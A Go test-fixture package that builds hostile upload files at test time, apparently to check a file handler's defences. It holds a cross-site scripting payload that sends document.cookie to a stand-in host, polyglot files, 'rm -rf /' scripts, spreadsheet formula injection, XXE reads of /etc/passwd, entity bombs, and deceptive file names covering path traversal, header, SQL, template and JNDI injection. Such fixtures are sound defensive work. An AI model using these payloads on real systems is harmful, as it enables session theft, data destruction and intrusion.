// Package hostile makes files that mean harm: pages and scripts under every name, files of two
// kinds at once, bombs, floods of pixels, documents that fetch and act, and names that deceive. They
// are made when a test asks for them, so that none of them lies in the repository for a scanner to
// find, or for somebody to open.
package hostile

import (
	"strings"
	"unicode/utf16"
)

// File is one of them.
type File struct {
	Name string // as its sender says
	Data string
}

// Files returns all of them.
func Files() []File {
	var all []File
	for _, body := range active() {
		for _, ext := range disguises {
			all = append(all, File{body.Name + "." + ext, body.Data})
		}
	}
	all = append(all, pdfs()...)
	all = append(all, packed()...)
	all = append(all, floods()...)
	all = append(all, others()...)
	return append(all, names()...)
}

// disguises are the extensions under which everything that acts is sent.
var disguises = strings.Fields("html svg xml pdf png jpg txt docx csv eml rtf zip")

// attack is a script that would show in a browser: it asks another host, and shows what it can reach.
const attack = `document.title='owned';new Image().src='http://evil.example/?'+document.cookie;alert(document.domain)`

// active are bodies that act when a browser takes them for a page.
func active() []File {
	html := "<script>" + attack + "</script>"
	svg := `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="` + attack + `"><script>` + attack + `</script></svg>`
	pdf := "%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"
	return []File{
		{"html", "<!DOCTYPE html><html><body>" + html + "</body></html>"},
		{"html-bare", html},
		{"html-bom", "\ufeff" + html},
		{"html-late", strings.Repeat(" \n", 600) + html},
		{"html-comment", "<!--" + strings.Repeat("x", 2000) + "-->" + html},
		{"html-utf16", wide(html)},
		{"html-utf7", `+ADw-script+AD4-` + attack + `+ADw-/script+AD4-`},
		{"html-meta", `<meta http-equiv="refresh" content="0;url=http://evil.example/"><iframe src="javascript:` + attack + `"></iframe>`},
		{"html-form", `<form action="http://evil.example/" id="f"><input name="password"></form><img src=x onerror="` + attack + `">`},
		{"svg", svg},
		{"svg-doctype", `<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://evil.example/svg.dtd">` + svg},
		{"svg-foreign", `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><body xmlns="http://www.w3.org/1999/xhtml">` + html + `</body></foreignObject></svg>`},
		{"svg-use", `<svg xmlns="http://www.w3.org/2000/svg"><use href="http://evil.example/a.svg#x"/><image href="http://evil.example/a.png"/></svg>`},
		{"xhtml", `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head>` + html + `</head></html>`},
		{"xslt", `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="#s"?><a><xsl:stylesheet id="s" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" version="1.0"/></a>`},
		{"mht", "MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: http://portal.example/\r\n\r\n" + html + "\r\n--b--\r\n"},
		{"mail", "From: a@example.nl\r\nSubject: x\r\nContent-Type: text/html\r\n\r\n" + html},
		{"gif-script", "GIF89a/*" + strings.Repeat("\x00", 20) + "*/=1;" + attack},
		{"pdf-html", html + pdf},
		{"html-pdf", pdf + html},
		{"png-html", "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde" + html},
		{"zip-html", "PK\x03\x04" + strings.Repeat("\x00", 26) + html},
		{"script", attack},
	}
}

func wide(s string) string {
	b := []byte{0xff, 0xfe}
	for _, u := range utf16.Encode([]rune(s)) {
		b = append(b, byte(u), byte(u>>8))
	}
	return string(b)
}

// others are programs, and documents of other kinds that act.
func others() []File {
	return []File{
		{"program.exe", "MZ\x90\x00" + strings.Repeat("\x00", 200)},
		{"program.pdf", "MZ\x90\x00" + strings.Repeat("\x00", 200)},
		{"program.docx", "\x7fELF\x02\x01\x01" + strings.Repeat("\x00", 200)},
		{"run.sh", "#!/bin/sh\nrm -rf /\n"},
		{"run.txt", "#!/bin/sh\nrm -rf /\n"},
		{"run.js", attack},
		{"run.hta", "<hta:application>" + attack},
		{"run.bat", "@echo off\r\ndel *.*"},
		{"run.ps1", "iex x"},
		{"link.url", "[InternetShortcut]\r\nURL=file://evil.example/x"},
		{"link.lnk", "L\x00\x00\x00\x01\x14\x02\x00"},
		{"formula.csv", "naam,bedrag\n=cmd|' /C calc'!A0,1\n@SUM(1+1)*cmd|x,2\n"},
		{"object.rtf", `{\rtf1{\object\objemb\objupdate{\*\objdata 0105}}}`},
		{"template.rtf", `{\rtf1{\*\template http://evil.example/a.dotm}}`},
		{"macros.doc", "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + strings.Repeat("\x00", 2000) + "_\x00V\x00B\x00A\x00_\x00P\x00R\x00O\x00J\x00E\x00C\x00T\x00"},
		{"laughs.xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><a>&b;</a>`},
		{"fetch.xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>`},
		{"outside.xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil.example/a.dtd">%p;]><a/>`},
		{"nothing.pdf", ""},
		{"one.pdf", "%"},
		{"zeros.pdf", strings.Repeat("\x00", 100_000)},
	}
}

// names are harmless files under names that deceive, lead elsewhere or break a header.
func names() []File {
	const pdf = "%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\n%%EOF"
	var all []File
	for _, n := range []string{
		"akte\u202efdp.exe.pdf", "\u2066a\u2069.pdf", "a\u200b.pdf", "a\r\nSet-Cookie: x=1\r\n.pdf", "a\nContent-Type: text/html\n\n<script>.pdf", `a";filename="b.html".pdf`,
		"a\x00.html.pdf", "../../../etc/passwd.pdf", `..\..\Windows\System32\a.pdf`, "/etc/cron.d/a.pdf", `C:\autoexec.pdf`, `\\evil.example\share\a.pdf`, "CON.pdf", "NUL.pdf", "aux.pdf",
		".pdf", "..pdf", "a.pdf.", "a.pdf ", " a.pdf", "a.pdf/", "a.pdf.exe", "a.exe.pdf", "a.pdf%00.exe", "a.PDF", "a.pdf;.html", "a.pdf::$DATA", ".htaccess", "a", "",
		"<script>alert(1)<∕script>.pdf", `"onmouseover="alert(1).pdf`, "'; drop table document; --.pdf", "{{7*7}}.pdf", "${jndi:ldap:∕∕evil.example}.pdf", "=cmd|calc.pdf",
		strings.Repeat("a", 300) + ".pdf", strings.Repeat("é", 200) + ".pdf", strings.Repeat("\U0001f9e8", 100) + ".pdf", "a" + strings.Repeat("\u0301", 500) + ".pdf", "\xff\xfe.pdf", "\ufeff.pdf",
		"%2e%2e%2fa.pdf", "a%0d%0aX: y.pdf", "data:text⁄html,x.pdf", "javascript:alert(1).pdf", "~.pdf", "-rf.pdf", "a|b.pdf", "a?b#c.pdf",
	} {
		all = append(all, File{n, pdf})
	}
	return all
}
